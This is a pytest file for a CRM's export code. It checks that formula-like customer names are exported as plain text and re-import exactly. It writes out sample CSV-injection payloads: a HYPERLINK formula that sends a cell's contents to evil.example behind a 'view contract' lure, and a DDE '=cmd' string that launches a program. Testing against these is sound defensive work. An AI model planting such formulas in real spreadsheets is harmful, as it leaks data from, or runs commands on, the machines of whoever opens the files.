"""Exports run nothing (OWASP CSV injection, issue 14): a name or note typed as a formula comes out of every
export and of the managers' workbook as the same text, never as a live formula, and imports back exactly."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models import Customer, Role
from services.access import viewer_for
from services.customers import create_customer
from services.exporter import export
from services.importer import import_file
from services.purchases import record_purchase
from services.reports import build, write_xlsx
from services.safecells import defuse_csv, restore_csv
from services.users import add_user
from tests.botkit import button_update, make_app, person, text_update
from tests.conftest import IN_CI

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看合同")'
NASTY = [EVIL, "+86 138 0013 8000", "-2+3", "@SUM(1+1)", "\t=1+1", "'=already quoted", "''two", "'plain quote",
         "=1+1"]
TODAY = datetime.now(UTC).date()


@pytest.mark.parametrize("text", NASTY + ["normal", "", "'", "=", "O'Brien"])
def test_defusing_a_csv_cell_is_undone_exactly_on_import(text):
    assert restore_csv(defuse_csv(text)) == text
    assert not defuse_csv(text).startswith(("=", "+", "-", "@", "\t", "\r"))


async def make_customers(session) -> list[tuple[str, str, str]]:
    for n, name in enumerate(NASTY):
        await create_customer(session, name=name, notes=name, external_id=f"X{n}")
    await session.commit()
    return await stored(session)


async def stored(session) -> list[tuple[str, str, str]]:
    return [tuple(row) for row in (await session.execute(
        select(Customer.external_id, Customer.name, Customer.notes).order_by(Customer.external_id))).all()]


async def test_a_csv_export_shows_formulas_as_text_and_imports_back_the_same(session, tmp_path):
    before = await make_customers(session)
    path = tmp_path / "c.csv"
    await export(session, "customers", path, fmt="csv", language="en")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in cells)
    report = await import_file(session, "customers", path, today=TODAY)
    assert report.ok and report.created == 0
    await session.commit()
    assert await stored(session) == before
    assert ("X4", "=1+1", "\t=1+1") in before  # a note's leading tab survives the trip too


async def test_an_xlsx_export_writes_string_cells_never_formulas(session, tmp_path):
    before = await make_customers(session)
    path = tmp_path / "c.xlsx"
    await export(session, "customers", path, fmt="xlsx", language="zh_Hans")
    sheet = load_workbook(path).active  # formulas as written, not computed values
    texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in NASTY]
    assert {cell.value for cell in texts} >= set(NASTY) - {"\t=1+1"}
    assert {cell.data_type for cell in texts} == {"s"}
    report = await import_file(session, "customers", path, today=TODAY)
    assert report.ok and report.created == 0
    await session.commit()
    assert await stored(session) == before


async def test_the_managers_workbook_shows_a_formula_name_as_text(session, tmp_path):
    from bot.report_view import xlsx_headings

    boss = await add_user(session, name="Boss", role=Role.manager, telegram_id=7001, language="en")
    rep = await add_user(session, name="=cmd|' /C calc'!A0", telegram_id=7002, manager_id=boss.id)
    customer = await create_customer(session, name=EVIL, owner_id=rep.id)
    await record_purchase(session, customer_id=customer.id, purchased_on=TODAY - timedelta(days=3),
                          amount_cents=900_00, today=TODAY)
    await session.commit()
    report = await build(session, await viewer_for(session, boss), kind="month", today=TODAY, language="en")
    path = write_xlsx(report, tmp_path / "r.xlsx", xlsx_headings(lambda s: s))
    book = load_workbook(path)
    found = [(sheet.title, cell.data_type) for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value in (EVIL, rep.name)]
    assert len({title for title, _ in found}) >= 3  # the name appears on several sheets …
    assert {kind for _, kind in found} == {"s"}  # … and never as a formula
    # A spreadsheet program we did not write opens it the same way: LibreOffice, every sheet to CSV as shown.
    soffice = shutil.which("soffice")
    if soffice is None:
        if IN_CI:
            pytest.fail("LibreOffice is required under CI=true (.ci/run installs libreoffice-calc-nogui)")
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    out = tmp_path / "csv"
    done = subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                           "--convert-to", 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1',
                           "--outdir", str(out), str(path)], capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr
    sheets = {p.stem.removeprefix("r-"): list(csv.reader(p.open(encoding="utf-8"))) for p in out.glob("*.csv")}
    assert {"RFM", "Key accounts", "Monthly sales", "Visit first"} <= set(sheets)
    accounts = sheets["Key accounts"]
    assert accounts[1][2] == EVIL and accounts[1][3] == "900.00" and accounts[1][4] == "100.0%"  # text; formats
    assert sheets["RFM"][1][1] == EVIL and sheets["RFM"][1][2] == rep.name


async def test_a_name_typed_in_chat_as_a_formula_is_exported_as_text(engine, tmp_path):
    app = await make_app(engine)
    async with app.sessions() as session:
        await add_user(session, name="Lee", telegram_id=7101, language="en")
        await session.commit()
    await app.sync()
    lee = person(7101, language="en")
    [ask] = (await app.send(text_update(lee, "/new " + EVIL))).sent()
    # Walk the guided steps, skipping what can be skipped, to the card.
    for _ in range(6):
        options = {b.text: b.callback_data for row in (ask.reply_markup.inline_keyboard if ask.reply_markup and
                   hasattr(ask.reply_markup, "inline_keyboard") else []) for b in row}
        if "main phone number" in ask.text:
            sent = (await app.send(text_update(lee, "020-8888 1234"))).sent()
        elif options:
            choice = options.get("Skip") or next(iter(options.values()))
            sent = (await app.send(button_update(lee, choice, on=ask))).sent()
        else:
            break
        if any(m.text.startswith("Created.") for m in sent):
            break
        ask = sent[-1]
    async with app.sessions() as session:
        [customer] = (await session.execute(select(Customer))).scalars()
        assert customer.name == EVIL
        await export(session, "customers", tmp_path / "c.xlsx", fmt="xlsx")
        await export(session, "customers", tmp_path / "c.csv", fmt="csv")
    cell = next(c for row in load_workbook(tmp_path / "c.xlsx").active.iter_rows() for c in row if c.value == EVIL)
    assert cell.data_type == "s"
    with (tmp_path / "c.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert "'" + EVIL in [cell for row in csv.reader(fh) for cell in row]
